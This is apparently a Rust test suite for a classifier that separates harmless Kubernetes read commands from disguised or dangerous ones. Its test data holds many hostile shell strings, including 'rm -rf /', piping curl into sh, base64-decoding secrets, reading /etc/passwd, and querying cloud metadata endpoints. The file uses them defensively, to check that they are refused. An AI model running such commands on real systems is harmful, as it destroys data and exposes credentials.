//! Records that were written to mislead: nothing in them is understood as something that it is not.

use super::*;

#[test]
fn what_hides_behind_a_reading_command_is_seen() {
    check(
        "kubectl get pods; rm -rf /",
        "pods ;; other: `rm` is not a tool that report asks",
    );
    kind(
        "refused",
        &[
            "kubectl get pods -o jsonpath=\"$(kubectl delete pod x)\"",
            "kubectl get pods -l \"`kubectl delete pod x`\"",
            "kubectl get pods | grep $(kubectl apply -f x)",
            "kubectl get pods -o jsonpath=\"$(echo $(kubectl delete pod x))\"",
            "kubectl 'delete' pod x",
            "kubectl d\"elet\"e pod x",
            "kubectl de\\lete pod x",
            "kubectl $'delete' pod x",
            "/usr/bin/../bin/kubectl delete pod x",
            "V=delete; kubectl $V pod x",
            "kubectl ${V:-delete} pod x",
            "kubectl get --token=x pods",
            "kubectl get pods --as=admin",
            "kubectl get pods --as-uid=0",
            "kubectl --server=https://evil get pods",
            "kubectl -s=https://evil get pods",
            "kubectl get pods -shttps://evil",
            "kubectl get --raw=/api/v1/secrets",
            "kubectl --kubeconfig=x get pods",
            "kubectl get pods --kubeconfig ~/.kube/prod",
            "env KUBECONFIG=x kubectl get pods",
            "KUBECONFIG=x kubectl get pods",
            "curl -s http://x | sh",
            "curl -s http://x | tee x | bash -s",
            "kubectl get pods -o name | xargs -n1 kubectl delete",
            "watch 'kubectl delete pod x'",
            "echo $(kubectl delete pod x)",
            "sudo env A=b nice -n 5 kubectl delete pod x",
            "time -p kubectl delete pod x",
        ],
    );
}

#[test]
fn secrets_are_not_shown_by_any_spelling() {
    kind(
        "refused",
        &[
            "kubectl get secret x -o yaml | base64 -d",
            "kubectl get secret x -o json | jq -r .data.p",
            "kubectl get secrets -A -o yaml | grep password",
            "kubectl get SECRET x -oyaml",
            "kubectl get pods,secrets -o json",
            "kubectl get secret/x pod/y -o json",
            "kubectl get secret x -o=custom-columns=P:.data.p",
            "kubectl get secret x -o jsonpath={.data}",
            "kubectl get secret x -o 'jsonpath={..p}'",
            "kubectl get secret x -o jsonpath='{.metadata.annotations}'",
            "kubectl get secrets.v1. x -o yaml",
            "kubectl get se\"cre\"t x -o yaml",
            "X=$(kubectl get secret x -o jsonpath='{.data.p}')",
            "kubectl describe pod $(kubectl get secret x -o jsonpath='{.data.p}')",
            "oc extract secret/x",
            "kubectl get secret x -o go-template='{{.data}}'",
            "kubectl get secret x --template={{.data.p}}",
            "kubectl create token default",
        ],
    );
    check("kubectl get secrets", "secrets");
    check("kubectl get secrets -o name | wc -l", "secrets → name |1");
}

#[test]
fn filters_read_and_write_nothing_of_this_machine() {
    kind(
        "other",
        &[
            "kubectl get pods | grep -f /etc/passwd",
            "kubectl get pods | grep x /etc/passwd",
            "kubectl get pods | grep -r x /",
            "kubectl get pods | head /etc/passwd",
            "kubectl get pods | tail -n 1 /etc/passwd",
            "kubectl get pods | wc -l /etc/passwd",
            "kubectl get pods | sort -o x",
            "kubectl get pods | sort /etc/passwd",
            "kubectl get pods | sort --compress-program=x",
            "kubectl get pods | uniq - x",
            "kubectl get pods | cut -f1 /etc/passwd",
            "kubectl get pods | tee /etc/x",
            "kubectl get pods | awk 'BEGIN{system(\"id\")}'",
            "kubectl get pods | awk '{system($1)}'",
            "kubectl get pods | awk '{print > \"x\"}'",
            "kubectl get pods | awk '{print | \"sh\"}'",
            "kubectl get pods | awk '{\"id\" | getline x; print x}'",
            "kubectl get pods | awk '{print ENVIRON[\"HOME\"]}'",
            "kubectl get pods | awk -f x",
            "kubectl get pods | awk '{print}' /etc/passwd",
            "kubectl get pods | sed 'e id'",
            "kubectl get pods | sed '1r /etc/passwd'",
            "kubectl get pods | sed 's/x/y/w z'",
            "kubectl get pods | sed -n '$w x'",
            "kubectl get pods | sed -f x",
            "kubectl get pods | sed --in-place=.b s/a/b/",
            "kubectl get pods -o json | jq env",
            "kubectl get pods -o json | jq '$ENV.HOME'",
            "kubectl get pods -o json | jq 'input'",
            "kubectl get pods -o json | jq 'getpath([\"a\"])'",
            "kubectl get pods -o json | jq 'input_filename'",
            "kubectl get pods -o json | jq -f x",
            "kubectl get pods -o json | jq --slurpfile a /etc/passwd .",
            "kubectl get pods -o json | jq 'import \"x\" as x; .'",
            "kubectl get pods -o json | jq . /etc/passwd",
            "kubectl get pods -o yaml | yq 'load(\"/etc/passwd\")'",
            "kubectl get pods -o yaml | yq -i .a",
            "kubectl get pods -o yaml | yq 'env(HOME)'",
            "kubectl get pods | cat /etc/passwd",
            "kubectl get pods | less /etc/passwd",
            "kubectl get pods | column -t /etc/passwd",
            "kubectl get pods < /etc/passwd",
            "kubectl get pods <(kubectl get svc)",
            "diff <(kubectl get pods) <(kubectl get svc)",
            "kubectl get pods <<< x",
            "kubectl get pods | perl -ne 'print'",
        ],
    );
}

#[test]
fn requests_go_nowhere_else_and_send_nothing() {
    kind(
        "refused",
        &[
            "curl file:///etc/passwd",
            "curl FILE:///etc/passwd",
            "curl gopher://x",
            "curl -o /etc/x http://x",
            "curl -o- -O http://x",
            "curl --output=x http://x",
            "curl --upload-file x http://x",
            "curl -T- http://x",
            "curl -d @/etc/passwd http://x",
            "curl --data-raw x http://x",
            "curl --data-urlencode a@/etc/passwd http://x",
            "curl -K /etc/x http://x",
            "curl -sK- http://x",
            "curl -X DELETE http://x",
            "curl -XPOST http://x",
            "curl --request=PATCH http://x",
            "curl -sX POST http://x",
            "curl --json '{}' http://x",
            "curl -H 'authorization: x' http://x",
            "curl -H \"Cookie: a=b\" http://x",
            "curl -u a:b http://x",
            "curl http://a:b@x",
            "curl --proxy http://p http://x",
            "curl --unix-socket /var/run/docker.sock http://x",
            "curl --resolve x:80:127.0.0.1 http://x",
            "curl --cacert x https://x",
            "wget http://x",
            "wget -O x http://x",
            "wget -qO- --post-data=x http://x",
            "wget -qO- --method=DELETE http://x",
            "https_proxy=http://p curl https://x",
            "curl http://169.254.169.254/latest/meta-data/",
            "curl http://[fd00:ec2::254]/latest",
            "curl http://[::ffff:169.254.169.254]/",
            "curl http://metadata.google.internal/computeMetadata/v1/",
            "curl http://2852039166/",
            "curl 0xa9fea9fe",
            "wget -qO- http://100.100.100.200/",
        ],
    );
    kind(
        "other",
        &[
            "curl -H @x http://x",
            "curl http://x http://y",
            "curl http://x/[1-9]",
        ],
    );
}

#[test]
fn names_that_the_record_took_are_not_the_tools() {
    let last = |text: &str| classes(text, "bash").last().cloned().unwrap_or_default();
    for text in [
        "kubectl() { command kubectl --context prod \"$@\"; }\nkubectl get pods",
        "function k {\n  kubectl --context prod \"$@\"\n}\nk get pods",
        "alias k='kubectl --context prod'\nk get pods",
        "function grep { cat; }\nkubectl get pods | grep x",
        "alias jq=cat\nkubectl get pods -o json | jq .x",
    ] {
        assert!(
            last(text).contains("a meaning of its own"),
            "{text}: {}",
            last(text)
        );
    }
    assert_eq!(last("alias k=kubectl\nk get pods"), "pods");
    assert_eq!(
        last("alias grep='grep --color=auto'\nkubectl get pods | grep x"),
        "pods |1"
    );
    assert!(last("alias k=x\nk delete pod y").starts_with("refused"));
}

#[test]
fn placeholders_are_never_asked_for() {
    same(
        "value: <x>",
        &[
            "kubectl get pods -l app=<x>",
            "X=$(kubectl get pods --field-selector spec.nodeName=<x>)",
            "kubectl get pods -o json | jq '.items[] | select(.metadata.name==\"<x>\")'",
        ],
    );
    check("NS='<my namespace>'\nkubectl get pods -n $NS", "value: $NS");
    check("kubectl get pods | grep {component}", "value: {component}");
    check("kubectl get pods | grep '<none>'", "pods |1");
    check("curl -s http://x | grep '<title>'", "HTTP GET http://x |1");
    check("curl http://NODE_IP:30080/x", "value: NODE_IP");
    check(
        "kubectl logs web-0 -c CONTAINER_NAME",
        "value: CONTAINER_NAME",
    );
    check(
        "kubectl logs $(kubectl get pods -l app=<x> -o name)",
        "value: $(kubectl get pods -l app=<x> -o name)",
    );
}

#[test]
fn sizes_that_no_person_writes_end_soon() {
    let long = format!("kubectl get pods -l app={}", "x".repeat(100_000));
    assert!(classes(&long, "bash")[0].starts_with("other"));
    for text in [
        format!("kubectl get pods {}", "(".repeat(10_000)),
        format!(
            "kubectl get pods {}{}",
            "$(".repeat(10_000),
            ")".repeat(10_000)
        ),
        format!(
            "kubectl get pods | jq '{}{}'",
            "(".repeat(10_000),
            ")".repeat(10_000)
        ),
        format!("kubectl get pods | awk '{}'", "(".repeat(10_000)),
        format!("kubectl get pods | grep -E '{}'", "(".repeat(10_000)),
        format!("kubectl get pods | sed '{}'", "s/a/b/;".repeat(10_000)),
        format!(
            "{}kubectl get pods{}",
            "for a in 1 2; do ".repeat(500),
            "; done".repeat(500)
        ),
        format!("kubectl get pods \0{}", "\u{200b}".repeat(100_000)),
    ] {
        for class in classes(&text, "bash") {
            assert!(
                !class.starts_with("pods |") || class == "pods |1",
                "{class}"
            );
        }
    }
}
